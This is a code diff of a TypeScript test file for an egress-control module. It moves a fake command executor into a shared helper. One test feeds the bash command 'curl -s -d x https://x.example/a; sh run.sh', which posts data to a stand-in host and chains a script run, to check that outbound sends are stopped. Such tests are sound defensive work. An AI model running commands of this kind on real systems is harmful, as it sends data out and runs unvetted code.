@@ -1,6 +1,7 @@
-import type { ExecEvent, Executor, Gate } from "@tenrec/protocol";
+import type { Executor, Gate } from "@tenrec/protocol";
 import { TenrecError } from "@tenrec/protocol";
 import { describe, expect, test } from "vitest";
+import { recordingExecutor } from "../../with-recording-executor.ts";
 import { type TestTools, withTools } from "../../with-tools.ts";
 import { createEgress } from "../egress.ts";
 
@@ -83,15 +84,8 @@ describe("curl and wget in bash", () => {
   });
 
   test("a line that sent something does not start again elsewhere", () => {
-    const ran: string[] = [];
-    const executor: Executor = {
-      name: "fake",
-      accepts: () => true,
-      async *exec(command): AsyncGenerator<ExecEvent> {
-        ran.push(command);
-        yield { type: "exit", code: 0 };
-      },
-    };
+    const executor = recordingExecutor();
+    const { ran } = executor;
     return withWeb(
       async ({ call }) => {
         const { text } = await call("bash", { command: "curl -s -d x https://x.example/a; sh run.sh" });
